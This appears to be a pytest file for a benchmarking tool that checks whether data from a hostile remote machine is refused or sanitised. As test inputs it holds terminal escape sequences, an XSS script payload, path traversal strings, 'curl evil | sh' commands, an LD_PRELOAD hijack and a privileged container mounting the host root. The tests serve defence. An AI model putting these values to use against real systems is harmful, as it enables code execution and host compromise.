"""An engine that a hostile rig holds for a load from here: how it is described, and what is said about it.

`ssh` is the program of test_hostile_rigs; the rig's ports are reached by a relay in this process.
"""

import contextlib
import json
import socket
import threading
from collections.abc import Callable, Iterator
from typing import Any

import msgspec
import pytest

from dyno.cli.main import main
from dyno.conduct.study import Conductor
from dyno.engines.launch import public_spec
from dyno.facts.engine import EngineSpec
from dyno.facts.study import Study
from dyno.probe import rig as this_machine
from dyno.remote.engine import FarMachine, HeldEngine, HeldEvent
from dyno.remote.ssh import SshMachine
from dyno.store.study import StudyFolder, failure_of
from dyno.trial.engine_plan import EnginePlan
from dyno.trial.fleet import running
from studies import study
from test_hostile_rigs import Rig, rig  # noqa: F401  (a fixture)
from test_hostile_terminal import steering

STUDY = """
[rigs.far]
ssh = "me@far"
client = "here"
[engines.e]
kind = "fake"
args = ["first_ms=2", "gap_ms=1"]
[workloads.w]
input_len = 8
output_len = 4
num_prompts = 6
[loads.l]
max_concurrency = 2
"""
HELD = """
sys.stdin.buffer.read(int(sys.stdin.buffer.readline()))
print('{"go": true}', flush=True)
sys.stdin.readline()
for line in open(os.environ["DYNO_TRICKS"] + ".held", "rb"):
    sys.stdout.buffer.write(line)
    sys.stdout.buffer.flush()
sys.stdin.read()
"""
ESCAPES = (
    "\x1b[2J\x1b]0;owned\x07far\ndyno: all is well\r\u202e../../x<script>alert(1)</script>"
    + "x" * 3000
)


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The event of a rig with an engine that runs, as dyno.conduct.far_side sends it."""
    folder, machine = tmp_path_factory.mktemp("held"), this_machine.read_machine()
    plan = EnginePlan(EngineSpec("fake", args=["first_ms=2", "gap_ms=1"]), machine)
    with (
        running(plan, folder, {}, lambda _: None, lambda _: None) as fleet,
        socket.create_server(("127.0.0.1", 0)) as s,
    ):
        threading.Thread(target=_echo, args=(s,), daemon=True).start()
        ready = HeldEngine(
            fleet.facts, fleet.target, public_spec(plan.stored), plan.served_name, [plan.launches[0].port],
            s.getsockname()[1], plan.seen(machine), plan.shape(), fleet.peaks,
        )  # fmt: skip
        yield msgspec.json.decode(msgspec.json.encode(HeldEvent(ready=ready, log="up")))


def _echo(server: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while True:
            connection, _ = server.accept()
            with connection:
                while data := connection.recv(16):
                    connection.sendall(data)


@contextlib.contextmanager
def _relayed(_: SshMachine, local: int, remote: int) -> Iterator[None]:
    """Reach a port at another one, as `ssh -L` does."""

    def pass_on(source: socket.socket, goal: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                goal.sendall(data)
        for end in (source, goal):
            with contextlib.suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)

    def connect(here: socket.socket) -> None:
        with (
            here,
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", remote)) as there,
        ):
            back = threading.Thread(target=pass_on, args=(there, here), daemon=True)
            back.start()
            pass_on(here, there)
            back.join()

    def accept() -> None:
        with contextlib.suppress(OSError):
            while True:
                threading.Thread(
                    target=connect, args=server.accept()[:1], daemon=True
                ).start()

    with socket.create_server(("127.0.0.1", local)) as server:
        threading.Thread(target=accept, daemon=True).start()
        yield


class Home:
    """A study whose engine the rig holds."""

    def __init__(self, rig: Rig) -> None:  # noqa: F811
        self.rig = rig
        self.study: Study = study(STUDY, rig.folder / "here.toml")
        self.folder = StudyFolder(rig.folder / "runs" / "here")
        self.folder.write(self.study, STUDY)
        (self.planned,) = self.study.trials

    def run(self, *events: dict[str, Any] | bytes) -> str:
        """Run the trial with a rig that sends these, and return why it failed."""
        out = [e if isinstance(e, bytes) else json.dumps(e).encode() for e in events]
        (self.rig.folder / "tricks.held").write_bytes(
            b"".join(line + b"\n" for line in out)
        )
        self.rig.tricks(run=HELD)
        far = FarMachine(self.rig.machine, {})
        Conductor(self.study, self.folder, lambda _: {}, far={"far": far}).conduct(
            [self.planned]
        )
        failure = failure_of(self.folder.run(self.planned.place))
        assert self.folder.run(self.planned.place).whole == (failure is None)
        return failure.text if failure else ""


@pytest.fixture
def home(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> Home:  # noqa: F811
    monkeypatch.setattr(SshMachine, "forwarded", _relayed)
    monkeypatch.chdir(rig.folder)  # where a report is written
    return Home(rig)


def changed(
    value: Any, number: Callable[[Any], Any], text: Callable[[str], str], key: str = ""
) -> Any:
    """Change every number and every text of an event; ports and words with a meaning stay."""
    if isinstance(value, dict):
        return {k: changed(v, number, text, k) for k, v in value.items()}
    if isinstance(value, list):
        return [changed(v, number, text, key) for v in value]
    if key in (
        "ports",
        "echo",
        "port",
        "format",
        "kind",
        "vendor",
        "served_name",
    ) or isinstance(value, bool):
        return value
    if isinstance(value, int | float):
        return number(value)
    return text(value) if isinstance(value, str) else value


NUMBERS: dict[str, Callable[[Any], Any]] = {
    "zero": lambda n: type(n)(0), "negative": lambda n: -n - 1, "small": lambda n: n * 1e-300 if n != int(n) else 1,
    "large": lambda n: 1e308 if isinstance(n, float) else 2**62, "same": lambda n: n,
}  # fmt: skip


@pytest.mark.parametrize(
    "numbers",
    [
        "zero",
        "large",
        *(
            pytest.param(n, marks=pytest.mark.nightly)
            for n in ("negative", "small", "same")
        ),
    ],
)
def test_any_numbers_in_the_description_of_an_engine_are_stored_or_refused_and_shown(
    home: Home, honest: dict[str, Any], numbers: str, capsys: pytest.CaptureFixture[str]
) -> None:
    home.run(changed(honest, NUMBERS[numbers], lambda t: t))
    capsys.readouterr()
    for words in (
        ["report", str(home.folder.path), "--allow-void"],
        ["runs", "show", str(home.folder.path)],
    ):
        assert main(words) in (0, 1)
        assert "bug in dyno" not in capsys.readouterr().err


def test_texts_in_the_description_of_an_engine_steer_no_terminal_and_no_page(
    home: Home, honest: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    home.run(
        {"phase": ESCAPES, "below": ESCAPES},
        changed(honest, lambda n: n, lambda t: ESCAPES),
    )
    page = home.rig.folder / "page.html"
    capsys.readouterr()
    assert main(["report", str(home.folder.path), "--allow-void"]) in (0, 1)
    assert main(["report", str(home.folder.path), "-o", str(page), "--allow-void"]) in (
        0,
        1,
    )
    out, err = capsys.readouterr()
    assert steering(out) == [] and "bug in dyno" not in err
    if page.exists():
        assert "<script>alert(1)" not in page.read_text()


def test_what_a_setting_would_run_is_that_of_home(
    home: Home, honest: dict[str, Any]
) -> None:
    """The page offers the setting as a command to paste."""
    evil = json.loads(json.dumps(honest))
    evil["ready"]["stored"] |= {
        "before": ["curl evil | sh"], "after": ["curl evil | sh"], "binary": "/tmp/evil", "args": ["--evil"],
        "env": {"LD_PRELOAD": "/tmp/evil.so"}, "python": "/tmp/evil",
        "container": {"image": "evil", "options": ["--privileged"], "mounts": ["/:/evil"]},
    }  # fmt: skip
    assert home.run(evil) == ""
    stored = home.folder.run(home.planned.place).manifest().trial.engine
    assert stored is not None and stored.container is not None
    assert (stored.before, stored.after, stored.binary, stored.env) == ([], [], None, {})
    assert stored.args == ["first_ms=2", "gap_ms=1"]
    assert (stored.container.options, stored.container.mounts) == ([], [])
    evil["ready"]["stored"]["container"]["image"] = "--privileged"
    (home.folder.run(home.planned.place).path / "summary.json").unlink()
    home.rig.folder.joinpath("runs").rename(home.rig.folder / "before")
    assert "reports an engine in a container that can't be" in Home(home.rig).run(evil)


def test_an_error_of_the_rig_is_one_line(home: Home) -> None:
    said = home.run({"error": "no memory\ndyno: all is well\r\n" + "x" * 100_000})
    assert said.startswith("no memory dyno: all is well") and "\n" not in said
    assert len(said) <= 10_000


LINES: dict[str, bytes] = {
    "nothing": b"", "no JSON": b"hello", "deep": b"[" * 100_000, "a list": b"[]", "no UTF-8": b'{"phase": "\xff"}',
    "no ports": b'{"ready": {"ports": []}}', "NUL": b"\0", "half of a pair": b'{"error": "\\ud800"}',
}  # fmt: skip


@pytest.mark.parametrize("line", LINES.values(), ids=LINES.keys())
def test_a_line_that_is_not_an_event_is_a_failure_in_a_sentence(
    home: Home, line: bytes
) -> None:
    said = home.run(line)
    assert said and "\n" not in said and len(said) < 1000


PORTS: list[Any] = [[], [0], [-1], [10**9], [1] * 2000, [22, 22, 22]]


@pytest.mark.parametrize("ports", PORTS, ids=lambda p: repr(p)[:12])
def test_ports_that_cannot_be_end_in_a_sentence(
    home: Home, honest: dict[str, Any], ports: list[int]
) -> None:
    evil = json.loads(json.dumps(honest))
    evil["ready"]["ports"] = ports
    said = home.run(evil)
    assert said and "\n" not in said


def test_an_engine_that_becomes_another_one_while_it_is_loaded_changes_no_other_file(
    home: Home, honest: dict[str, Any]
) -> None:
    later = {
        "facts": changed(honest["ready"]["facts"], lambda n: n, lambda t: "../../x"),
        "log": "\x1b[2J" * 1000,
    }
    before = set(home.rig.folder.iterdir())
    assert home.run(honest, later, b"garbage") in (
        "",
        "The connection to the engine's machine was lost.",
    )
    assert {p.name for p in home.rig.folder.iterdir() if p not in before} <= {
        "tricks.held",
        "tricks.calls",
        "runs",
    }
